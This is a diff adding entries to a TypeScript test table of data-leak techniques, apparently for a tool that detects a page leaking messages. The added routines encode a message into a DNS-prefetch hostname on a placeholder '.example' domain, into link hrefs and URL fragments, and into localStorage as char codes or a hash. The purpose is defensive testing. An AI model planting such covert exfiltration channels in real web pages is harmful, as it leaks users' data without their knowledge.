@@ -117,6 +117,39 @@ const LEAKS: Readonly<Record<string, readonly [leak: Leak, told: RegExp]>> = {
     },
     /^a file of the site’s own: “.*” of a message/,
   ],
+  'the name of another host': [
+    (message) => {
+      const link = document.createElement('link');
+      link.rel = 'dns-prefetch';
+      link.href = `//${Array.from(message.slice(0, 8), (one) => one.charCodeAt(0).toString(16)).join('')}.example/`;
+      document.head.append(link);
+      link.remove();
+    },
+    /^a link to /,
+  ],
+  'a link of the page that nobody taps': [
+    (message) => {
+      const link = document.createElement('a');
+      link.href = `../called/?said=${encodeURIComponent(message)}`;
+      document.body.append(link);
+    },
+    /^a href: “.*” of a message/,
+  ],
+  'a link of the page, behind its address': [
+    (message) => document.querySelector('a')?.setAttribute('href', `../called/#${message}`),
+    /^a href: “.*” of a message/,
+  ],
+  'localStorage, as code numbers': [
+    (message) => localStorage.setItem('a', Array.from(message, (one) => one.charCodeAt(0)).join()),
+    /^localStorage: “.*” of a message/,
+  ],
+  'localStorage, as a hash': [
+    async (message) => {
+      const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(message));
+      localStorage.setItem('a', new Uint8Array(hash).join());
+    },
+    /^localStorage: “sha256 of .*” of a message/,
+  ],
   'the console': [(message) => console.log(message), /^the console: “.*” of a message/],
 };
 
